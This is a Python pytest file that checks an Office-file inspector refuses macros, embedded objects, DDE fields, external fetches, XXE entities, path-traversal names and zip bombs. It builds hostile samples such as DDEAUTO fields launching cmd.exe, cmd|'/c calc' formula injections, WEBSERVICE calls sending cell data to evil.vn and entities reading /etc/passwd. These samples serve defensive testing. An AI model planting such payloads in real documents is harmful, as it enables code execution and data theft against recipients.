"""What would run, or ask somebody else, where a file is opened: refused in words, each by its own name."""

import io

import docx
import pytest

from tests.kernel.office import files
from tests.kernel.office.files import BOOK, BOOK_RELS, DOCUMENT, DOCUMENT_RELS, OLE, SHEET, SHEET_RELS
from vitreem.kernel.files import inspection
from vitreem.kernel.files.office import archive
from vitreem.kernel.files.refusals import Foreign, foreign
from vitreem.kernel.http.problems import Problem

VBA = "application/vnd.ms-office.vbaProject"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
WORD_MAIN = "wordprocessingml.document.main+xml"
SHEET_MAIN = "spreadsheetml.sheet.main+xml"
OPEN = "application/vnd.openxmlformats-officedocument."


def refusal(data: bytes) -> tuple[str, str]:
    with pytest.raises(Problem) as raised:
        inspection.clean(data)
    assert any(letter in raised.value.detail for letter in "ạảấầậắếềệđươóáộ"), raised.value.detail
    return raised.value.code, raised.value.extra.get("what", "")


def retyped(data: bytes, old: str, new: str) -> bytes:
    return files.changed(data, {"[Content_Types].xml": lambda text: text.replace(old, new)})


def in_body(xml: str) -> bytes:
    return files.changed(files.word(), {DOCUMENT: files.body(xml)})


def in_sheet(xml: str) -> bytes:
    return files.changed(files.sheet(), {SHEET: lambda text: text.replace("</worksheet>", xml + "</worksheet>")})


def settings(xml: str) -> bytes:
    return files.changed(
        files.word(), {"word/settings.xml": lambda text: text.replace("</w:settings>", xml + "</w:settings>")}
    )


MARK = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format


def simple(instruction: str) -> bytes:
    return in_body(f'<w:fldSimple w:instr="{instruction}"><w:r><w:t>kết quả</w:t></w:r></w:fldSimple>')


def nested_keyword() -> bytes:
    mark = MARK
    inner = files.field("QUOTE 68 68 69 65 85 84 79", result="DDEAUTO")
    return in_body(f"{mark('begin')}{inner}<w:r><w:instrText> c:\\x.exe</w:instrText></w:r>{mark('end')}")


def blank_keyword() -> bytes:
    """What the inner field gave last is blank; it gives the keyword when the fields are brought up to date."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    inner = files.field("QUOTE 68 68 69 65 85 84 79", result=" ")
    return in_body(f"{mark('begin')}{inner}<w:r><w:instrText> c:\\x.exe</w:instrText></w:r>{mark('end')}")


def computed_dde() -> bytes:
    """The word comes out of a field within the instruction."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    inner = files.field("QUOTE 68 68 69", result="DDE")
    head = "<w:r><w:instrText>SET x </w:instrText></w:r>"
    return in_body(f"{mark('begin')}{head}{inner}{mark('end')}")


def utf16(data: bytes, part: str) -> bytes:
    def turn(text: str) -> bytes:
        return text.replace('encoding="UTF-8"', 'encoding="UTF-16"').replace("encoding='UTF-8'", "").encode("utf-16")

    return files.changed(data, {part: turn(files.parts_of(data)[part].decode())})


EMBEDDED = '<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package"/></w:object>'
MERGE = '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/></w:mailMerge>'

CASES = {
    # Macros, under whatever name
    "macro in a docx": ("macros", lambda: files.with_part(files.word(), "word/vbaProject.bin", OLE, VBA, DOCUMENT_RELS, f"{MICROSOFT}/vbaProject")),
    "macro in an xlsx": ("macros", lambda: files.with_part(files.sheet(), "xl/vbaProject.bin", OLE, VBA, BOOK_RELS, f"{MICROSOFT}/vbaProject")),
    "macro under another name": ("macros", lambda: files.with_part(files.word(), "word/data.bin", b"x" * 99, VBA, DOCUMENT_RELS, f"{MICROSOFT}/vbaProject")),
    "macro of a sensible type that nothing leads to": ("macros", lambda: files.with_part(files.word(), "word/vbaProject.bin", b"x", "image/png", "", "")),
    "macro as another type": ("macros", lambda: files.with_part(files.word(), "word/theme/theme9.xml", "<a/>", OPEN + "theme+xml", DOCUMENT_RELS, f"{MICROSOFT}/vbaProject")),
    "macro that nothing leads to": ("macros", lambda: files.with_part(files.word(), "word/x.bin", b"x", VBA, "", "")),
    "docm named docx": ("macros", lambda: retyped(files.word(), f"{OPEN}{WORD_MAIN}", "application/vnd.ms-word.document.macroEnabled.main+xml")),
    "xlsm named xlsx": ("macros", lambda: retyped(files.sheet(), f"{OPEN}{SHEET_MAIN}", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
    "Excel 4 macro sheet": ("macros", lambda: files.with_part(files.sheet(), "xl/macrosheets/sheet1.xml", "<a/>", "application/vnd.ms-excel.macrosheet+xml", BOOK_RELS, f"{MICROSOFT}/xlMacrosheet")),
    # Objects
    "OLE object": ("embedded_objects", lambda: files.with_part(files.word(), "word/embeddings/oleObject1.bin", OLE, OPEN + "oleObject", DOCUMENT_RELS, "oleObject")),
    "OLE container as a picture": ("embedded_objects", lambda: files.with_part(files.word(), "word/media/x.png", OLE, "image/png", DOCUMENT_RELS, "image")),
    "object element": ("embedded_objects", lambda: in_body(EMBEDDED)),
    "ActiveX": ("embedded_objects", lambda: files.with_part(files.word(), "word/activeX/activeX1.xml", "<a/>", "application/vnd.ms-office.activeX+xml", DOCUMENT_RELS, "control")),
    "ActiveX element": ("embedded_objects", lambda: in_body('<w:object><w:control w:name="x"/></w:object>')),
    "workbook in a document": ("embedded_objects", lambda: files.with_part(files.word(), "word/embeddings/a.xlsx", b"PK", OPEN + "spreadsheetml.sheet", DOCUMENT_RELS, "package")),
    "linked object": ("embedded_objects", lambda: files.with_rel(files.word(), DOCUMENT_RELS, "rX", "oleObject", "http://evil.vn/x.doc")),
    "HTML inside": ("embedded_objects", lambda: files.with_part(files.word(), "word/afchunk.html", "<html/>", "text/html", DOCUMENT_RELS, "aFChunk")),
    "objects of a sheet": ("embedded_objects", lambda: in_sheet("<oleObjects/>")),
    # DDE
    "DDEAUTO split over runs": ("dde", lambda: files.with_field("D", "DEA", "UTO ", r"c:\\windows\\system32\\cmd.exe &quot;/k calc&quot;")),
    "DDE in one": ("dde", lambda: files.with_field(" DDE Excel x")),
    "DDE in a simple field": ("dde", lambda: in_body('<w:fldSimple w:instr=" ddeauto cmd x "><w:r><w:t>1</w:t></w:r></w:fldSimple>')),
    "DDE outside any field": ("dde", lambda: in_body("<w:r><w:instrText>DDEAUTO x</w:instrText></w:r>")),
    "keyword that is computed": ("dde", nested_keyword),
    "keyword that is still blank": ("dde", blank_keyword),
    "DDE from a field within": ("dde", computed_dde),
    "field that never ends": ("dde", lambda: in_body('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE x</w:instrText></w:r>')),
    "DDE in deleted text": ("dde", lambda: in_body("<w:r><w:delInstrText>DDE x</w:delInstrText></w:r>")),
    "LINK": ("dde", lambda: files.with_field(r" LINK Excel.Sheet.12 &quot;http://evil.vn/x.xlsx&quot;")),
    "DDE in UTF-16": ("dde", lambda: utf16(files.with_field("DDEAUTO x"), DOCUMENT)),
    "DDE in a header": ("dde", lambda: files.changed(files.word(), {"word/header1.xml": lambda text: text.replace("</w:p>", files.field("DDE x") + "</w:p>", 1)})),
    "ddeLink": ("dde", lambda: files.external_book('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')),
    "oleLink": ("dde", lambda: files.external_book('<oleLink r:id="rId1" progId="Package"/>')),
    "cmd in a cell": ("dde", lambda: files.with_formula("cmd|'/c calc'!A0")),
    "cmd in a sum": ("dde", lambda: files.with_formula("1+MSEXCEL|'\\..\\cmd.exe'!''")),
    "cmd in a name": ("dde", lambda: files.changed(files.sheet(), {BOOK: lambda text: text.replace("</definedNames>", "<definedName name=\"x\">cmd|'/c calc'!A0</definedName></definedNames>")})),
    "cmd in a rule": ("dde", lambda: files.changed(files.sheet(), {SHEET: lambda text: text.replace("<formula>B2&gt;4<", "<formula>cmd|'/c calc'!A0<")})),
    # From the web
    "picture of the web in a field": ("web_content", lambda: files.with_field("INCLUDE", "PICTURE &quot;http://evil.vn/x.png&quot; \\d")),
    "text of the web in a field": ("web_content", lambda: files.with_field(" includetext http://evil.vn/x.docx")),
    "WEBSERVICE": ("web_content", lambda: files.with_formula("_xlfn.WEBSERVICE(&quot;http://evil.vn/?&quot;&amp;A1)")),
    "IMAGE": ("web_content", lambda: files.with_formula("_xlfn.IMAGE(&quot;http://evil.vn/x.png&quot;)")),
    "header from elsewhere": ("web_content", lambda: files.with_rel(files.word(), DOCUMENT_RELS, "rX", "header", "http://evil.vn/h.xml")),
    "picture in a field without a blank": ("web_content", lambda: files.with_field("INCLUDEPICTURE&quot;http://evil.vn/x.png&quot;")),
    "picture in a field with a switch": ("web_content", lambda: files.with_field("INCLUDEPICTURE\\d &quot;http://evil.vn/x.png&quot;")),
    "text in a field without a blank": ("web_content", lambda: files.with_field("INCLUDETEXT&quot;http://evil.vn/x.docx&quot;")),
    "text behind an unseen letter": ("web_content", lambda: files.with_field("\u200bINCLU\u00adDETEXT &quot;http://evil.vn/x.docx&quot;")),
    "text behind a wide blank": ("web_content", lambda: files.with_field("\u3000INCLUDETEXT &quot;http://evil.vn/x.docx&quot;")),
    "import without a blank": ("web_content", lambda: files.with_field("IMPORT&quot;c:\\x&quot;")),
    "picture in a simple field": ("web_content", lambda: simple("INCLUDEPICTURE&quot;http://evil.vn/x.png&quot;")),
    "picture behind a change that is tracked": ("web_content", lambda: in_body(f"{MARK('begin')}<w:r><w:instrText> PAGE </w:instrText></w:r><w:del><w:r><w:delInstrText>INCLUDEPICTURE x</w:delInstrText></w:r></w:del>{MARK('end')}")),
    "IMPORTCSV": ("web_content", lambda: files.with_formula("_xlfn._xlws.IMPORTCSV(&quot;http://evil.vn/x.csv&quot;)")),
    "IMPORTTEXT": ("web_content", lambda: files.with_formula("_xlfn.IMPORTTEXT(&quot;\\\\evil\\x.txt&quot;)")),
    "TRANSLATE": ("web_content", lambda: files.with_formula("_xlfn.TRANSLATE(A1)")),
    "Python": ("web_content", lambda: files.with_formula("_xlfn._xlws.PY(0,1)")),
    "function handed on by its name": ("web_content", lambda: files.with_formula("_xlfn.MAP(A1:A3,_xleta.WEBSERVICE)")),
    "function behind an unseen letter": ("web_content", lambda: files.with_formula("WEB\u200bSERVICE(A1)")),
    "function between brackets of a table": ("web_content", lambda: files.with_formula("T['[]+WEBSERVICE(A1)+T['[]")),
    "function between columns with quotes": ("web_content", lambda: files.with_formula("T[a&quot;b]+WEBSERVICE(A1)+T[c&quot;d]")),
    "function of a data bar": ("web_content", lambda: in_sheet('<conditionalFormatting><cfRule type="colorScale"><colorScale><cfvo type="formula" val="WEBSERVICE(A1)"/></colorScale></cfRule></conditionalFormatting>')),
    "cube": ("data_connections", lambda: files.with_formula("CUBEVALUE(&quot;conn&quot;,&quot;x&quot;)")),
    "DDE of LibreOffice": ("dde", lambda: files.with_formula("DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)")),
    "cmd as a sheet": ("dde", lambda: files.with_formula("'cmd|/c calc'!A0")),
    "link to an object without a blank": ("dde", lambda: files.with_field("LINK&quot;Excel.Sheet&quot;")),
    "database without a blank": ("mail_merge", lambda: files.with_field("DATABASE&quot;x&quot;")),
    # Without end
    "fields in fields": ("endless_fields", lambda: in_body((MARK("begin") + "<w:r><w:instrText>ZZZ </w:instrText></w:r>") * 21 + "<w:r><w:t>x</w:t></w:r>")),
    "instruction without end": ("endless_fields", lambda: in_body(MARK("begin") + "<w:r><w:instrText>ZZZ </w:instrText></w:r>" * 15_000)),
    # From other documents and lists
    "sub-document": ("subdocuments", lambda: files.with_rel(files.word(), DOCUMENT_RELS, "rX", "subDocument", "file:///c:/a.docx")),
    "frame set": ("subdocuments", lambda: files.changed(files.word(), {"word/webSettings.xml": lambda text: text.replace("</w:webSettings>", "<w:frameset/></w:webSettings>")})),
    "mail merge": ("mail_merge", lambda: settings(MERGE)),
    "source of a mail merge": ("mail_merge", lambda: files.with_rel(files.word(), "word/_rels/settings.xml.rels", "rX", "mailMergeSource", "file:///c:/list.xlsx")),
    "connections": ("data_connections", lambda: files.with_part(files.sheet(), "xl/connections.xml", f"<connections {files.S}/>", OPEN + "spreadsheetml.connections+xml", BOOK_RELS, "connections")),
    # What isn't what it says
    "entity": ("external_entities", lambda: files.changed(files.word(), {DOCUMENT: lambda text: text.replace("<w:document", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document', 1)})),
    "entity in relationships": ("external_entities", lambda: files.changed(files.word(), {DOCUMENT_RELS: lambda text: text.replace("<Relationships", "<!DOCTYPE a [<!ENTITY x 'y'>]><Relationships", 1)})),
    "entity in content types": ("external_entities", lambda: files.changed(files.word(), {"[Content_Types].xml": lambda text: text.replace("<Types", "<!DOCTYPE a><Types", 1)})),
    "unknown part": ("unknown_parts", lambda: files.with_part(files.word(), "word/x.bin", b"MZ\x90", "application/octet-stream", "", "")),
    "part that says nothing": ("unknown_parts", lambda: files.changed(files.word(), {"word/run.exe": b"MZ\x90"})),
    "unknown relationship": ("unknown_parts", lambda: files.with_rel(files.word(), DOCUMENT_RELS, "rX", "http://evil.vn/rel/newThing", "http://evil.vn/x")),
    "program as a picture": ("unknown_parts", lambda: files.with_part(files.word(), "word/media/x.png", b"MZ\x90" * 99, "image/png", DOCUMENT_RELS, "image")),
    "document as a picture": ("unknown_parts", lambda: files.with_part(files.word(), "word/x.xml", f"<w:styles {files.W}/>", OPEN + "wordprocessingml.styles+xml", DOCUMENT_RELS, "image")),
    "signature": ("signature", lambda: files.with_part(files.word(), "_xmlsignatures/origin.sigs", b"", "application/vnd.openxmlformats-package.digital-signature-origin", "_rels/.rels", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin")),
}  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_foreign_content(name):
    what, make = CASES[name]
    assert refusal(make()) == ("foreign_content", what)


def test_a_keyword_behind_many_blanks_may_not_be_computed_either():
    head = "<w:r><w:instrText>" + " " * 90 + "</w:instrText></w:r>"
    assert refusal(in_body(MARK("begin") + head + files.field("QUOTE 68", result="PAGE") + MARK("end")))[1] == "dde"


def test_each_kind_has_a_sentence_of_its_own():
    assert len({foreign(what).detail for what in Foreign}) == len(Foreign)


PACKAGES = {
    "name that climbs": ("broken_file", lambda: files.changed(files.word(), {"../evil.xml": "<a/>"})),
    "name that climbs further on": ("broken_file", lambda: files.changed(files.word(), {"word/../../evil.xml": "<a/>"})),
    "absolute name": ("broken_file", lambda: files.changed(files.word(), {"/etc/evil.xml": "<a/>"})),
    "empty step": ("broken_file", lambda: files.changed(files.word(), {"word//evil.xml": "<a/>"})),
    "backslash": ("broken_file", lambda: files.changed(files.word(), {"word\\evil.xml": "<a/>"})),
    "line end in a name": ("broken_file", lambda: files.changed(files.word(), {"word/evil\n.xml": "<a/>"})),
    "NUL in a name": ("broken_file", lambda: files.patched_zip(files.changed(files.word(), {"word/evilX.xml": "<a/>"}), b"word/evilX.xml", b"word/evil\x00.xml")),
    "the same name twice": ("broken_file", lambda: files.patched_zip(files.changed(files.word(), {"word/settinga.xml": "<a/>"}), b"word/settinga.xml", b"word/settings.xml")),
    "the same name in capitals": ("broken_file", lambda: files.changed(files.word(), {"word/SETTINGS.xml": "<a/>"})),
    "long name": ("broken_file", lambda: files.changed(files.word(), {"word/" + "a" * 300 + ".xml": "<a/>"})),
    "encrypted entry": ("protected_file", lambda: files.encrypted_flag(files.word())),
    "ten thousand entries": ("zip_bomb", lambda: files.changed(files.word(), {f"word/{number}.xml": "<a/>" for number in range(2_001)})),
    "bomb of markup": ("zip_bomb", lambda: files.changed(files.word(), {"word/a.xml": b" " * 60_000_000})),
    "bomb of a picture": ("zip_bomb", lambda: files.changed(files.word(), {"word/media/a.bmp": b" " * 120_000_000})),
    "sizes that lie": ("broken_file", lambda: files.lying_sizes(files.word(), DOCUMENT)),
    "cut short": ("broken_file", lambda: files.word()[:-900]),
    "markup that isn't": ("broken_file", lambda: files.changed(files.word(), {DOCUMENT: "<w:document"})),
    "another alphabet": ("broken_file", lambda: files.changed(files.word(), {DOCUMENT: '<?xml version="1.0" encoding="UTF-7"?><a/>'})),
    "relationship twice": ("broken_file", lambda: files.changed(files.word(), {DOCUMENT_RELS: lambda text: text.replace("rId2", "rId1", 1)})),
    "missing part": ("broken_file", lambda: files.changed(files.word(), {"word/styles.xml": None})),
    "template of Word": ("unsupported_file", lambda: retyped(files.word(), WORD_MAIN, "wordprocessingml.template.main+xml")),
    "template of Excel": ("unsupported_file", lambda: retyped(files.sheet(), SHEET_MAIN, "spreadsheetml.template.main+xml")),
    "slides": ("unsupported_file", lambda: retyped(files.word(), WORD_MAIN, "presentationml.presentation.main+xml")),
    "any zip": ("unsupported_file", lambda: files.zipped({"readme.txt": "hello"})),
    "old Word": ("unsupported_file", lambda: OLE),
    "Word with a password": ("protected_file", lambda: OLE + "EncryptedPackage".encode("utf-16-le")),
}  # fmt: skip


@pytest.mark.parametrize("name", ["template of Word", "template of Excel"])
def test_a_template_is_told_what_to_become(name):
    with pytest.raises(Problem, match="tệp mẫu"):
        inspection.clean(PACKAGES[name][1]())


@pytest.mark.parametrize("name", PACKAGES)
def test_packages(name):
    code, make = PACKAGES[name]
    assert refusal(make())[0] == code


def test_sizes_are_looked_at_before_anything_is_read(monkeypatch):
    monkeypatch.setattr(archive, "_read", lambda *_: pytest.fail("read"))
    assert refusal(files.changed(files.word(), {"word/media/a.bmp": b" " * 110_000_000}))[0] == "zip_bomb"


def test_sizes_are_counted_while_reading(monkeypatch):
    monkeypatch.setattr(archive, "_require_modest", lambda _: None)
    assert refusal(files.changed(files.word(), {"word/media/a.bmp": b" " * 110_000_000}))[0] == "zip_bomb"


@pytest.mark.parametrize("seed", range(60))
def test_bitten_files_are_refused_or_clean(seed):
    """Bytes changed anywhere: a problem in words or a file that opens, never an error of ours."""
    import random

    rng = random.Random(seed)
    parts = files.parts_of(files.word() if seed % 2 else files.sheet())
    name = rng.choice(sorted(parts))
    bitten = bytearray(parts[name])
    for _ in range(rng.randint(1, 12)):
        bitten[rng.randrange(len(bitten))] = rng.randrange(256)
    data = files.zipped({**parts, name: bytes(bitten)})
    try:
        inspection.clean(data)
    except Problem:
        return


def test_the_files_that_the_others_are_made_from_are_kept():
    assert inspection.clean(files.word()).media_type == inspection.office.DOCX
    assert inspection.clean(files.sheet()).media_type == inspection.office.XLSX
    assert docx.Document(io.BytesIO(inspection.clean(files.with_field("PAGE ")).data))
    assert inspection.clean(files.with_formula("SUM(A1:A2)"))
    assert SHEET_RELS in files.parts_of(files.sheet())
